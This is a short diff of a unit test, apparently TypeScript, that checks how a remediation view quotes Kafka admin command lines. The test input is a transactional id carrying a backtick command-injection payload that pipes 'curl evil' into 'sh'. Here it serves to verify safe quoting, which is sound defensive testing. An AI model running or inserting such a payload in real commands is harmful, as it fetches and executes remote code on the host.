@@ -75,7 +75,7 @@ describe("remediationView", () => {
       detector.commands.map((c) => [c.program, ["--bootstrap-server", "b1:9092", ...c.args]]),
     );
     expect(view.commands[0].line).toBe(
-      "kafka-transactions.sh --bootstrap-server b1:9092 describe '--transactional-id=billing`kafka-consumer-groups.sh --list; curl evil|sh #`'",
+      "kafka-transactions.sh --bootstrap-server b1:9092 describe --transactional-id='billing`kafka-consumer-groups.sh --list; curl evil|sh #`'",
     );
     expect(view.commands[0].words!.join(" ")).toBe(view.commands[0].line);
     // The id stays in the prose, as text.
